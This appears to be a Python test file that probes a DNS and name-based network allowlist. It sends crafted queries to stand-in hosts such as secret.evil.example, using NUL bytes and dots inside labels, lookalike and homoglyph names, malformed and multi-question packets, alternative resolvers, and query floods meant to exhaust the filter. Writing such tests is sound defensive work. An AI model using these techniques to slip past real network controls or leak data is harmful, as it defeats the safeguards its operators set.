"""Attempts by names: questions of DNS, and names that look like allowed ones."""
import socket, struct, time

from attempts import (SEEN_ADDRESS, SEEN_BELOW, SEEN_HTTP, SEEN_TLS, address_of, ask, attempt, hello, http,
                      question, quietly, send, tcp)


# Controls.
@attempt(seen=SEEN_TLS, control=True)
def an_allowed_name_by_tls():
    hello([b"allowed.example"])


@attempt(seen=SEEN_HTTP, control=True)
def an_allowed_name_by_http():
    http("GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")


@attempt(seen=SEEN_BELOW, control=True)
def a_name_below_a_pattern():
    send("www.wild.example", 80, b"GET / HTTP/1.1\r\nHost: www.wild.example\r\n\r\n")


@attempt(seen=SEEN_ADDRESS, control=True)
def an_allowed_address():
    tcp("203.0.113.15", 80)


# Names.
@attempt()
def a_nul_in_a_label():
    ask([b"evil", b"example\0", b"allowed", b"example"]), ask([b"evil.example\0.allowed", b"example"])


@attempt()
def a_dot_in_a_label():
    ask([b"evil", b"www.wild", b"example"]), ask([b"allowed.example"]), ask([b"secret.evil.example"])


@attempt()
def names_that_only_look_alike():
    for name in ("evilallowed.example", "allowed.example.evil.example", "allowed.exampl", "allowed-example",
                 "allowed.example.wild.example.evil", "wild.example", "xwild.example", "allowed_example"):
        address_of(name)
        send(name, 80, b"GET / HTTP/1.0\r\n\r\n")


@attempt()
def a_name_below_an_exact_one():
    address_of("secret.allowed.example"), ask([b"secret", b"allowed", b"example"], 16)


@attempt()
def odd_characters():
    for label in (b"a b", b"a/b", b"a@b", b"a%00b", b"a\nb", b"\xff\xfe", b"a*b", b"*", b"-a", b"a-"):
        ask([label, b"www", b"wild", b"example"])


@attempt()
def a_name_that_is_too_long():
    ask([b"a" * 63] * 4 + [b"www", b"wild", b"example"]), ask([b"a" * 63] * 20)


@attempt()
def other_scripts():
    address_of("bücher.example"), address_of("аllowed.example"), address_of("allowed。evil.example")


@attempt()
def every_type_of_question():
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 64, 65, 251, 252, 255, 65535):
        ask([b"secret", b"evil", b"example"], kind), ask([b"allowed", b"example"], kind)


@attempt()
def questions_by_tcp():
    def talk(server):
        with socket.create_connection((server, 53), timeout=3) as s:
            for name in ([b"secret", b"evil", b"example"], [b"allowed", b"example"]):
                data = question(name)
                s.sendall(struct.pack(">H", len(data)) + data)
                s.recv(512)

    for server in ("203.0.113.53", "8.8.8.8", "127.0.0.1"):
        quietly(lambda: talk(server))


@attempt()
def questions_to_other_servers():
    for server in ("203.0.113.53", "203.0.113.10", "8.8.8.8", "127.0.0.53", "198.18.0.1", "255.255.255.255"):
        ask([b"secret", b"evil", b"example"], server=server)


@attempt()
def several_questions_in_one_message():
    data = question([b"allowed", b"example"])
    more = data[:4] + struct.pack(">H", 2) + data[6:] + b"\6secret\4evil\7example\0\0\1\0\1"
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.sendto(more, ("203.0.113.53", 53))
        time.sleep(0.3)


@attempt()
def malformed_questions():
    good = question([b"secret", b"evil", b"example"])
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        loop = good[:12] + b"\xc0\x0c\0\1\0\1"
        for data in (b"", b"\0", good[:11], good[:20], good[:12] + b"\x3f" + good[13:], loop,
                     good[:2] + b"\x28\0" + good[4:], good[:2] + b"\x81\x80" + good[4:], good + bytes(3000)):
            quietly(lambda: s.sendto(data, ("203.0.113.53", 53)))
        time.sleep(0.3)


@attempt()
def a_flood_of_questions():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        for number in range(3000):
            quietly(lambda: s.sendto(question([b"x%d" % number, b"evil", b"example"]), ("203.0.113.53", 53)))
        time.sleep(0.5)


@attempt()
def reverse_questions():
    ask([b"11", b"113", b"0", b"203", b"in-addr", b"arpa"], 12), ask([b"secret", b"in-addr", b"arpa"], 12)


@attempt(seen=SEEN_BELOW)
def exhausted_names():
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(0.01)
        for number in range(20000):
            quietly(lambda: s.sendto(question([b"n%d" % number, b"wild", b"example"]), ("203.0.113.53", 53)))
            if number % 50 == 0:
                quietly(lambda: s.recv(512))
    send("other.example", 80, b"GET / HTTP/1.0\r\n\r\n")
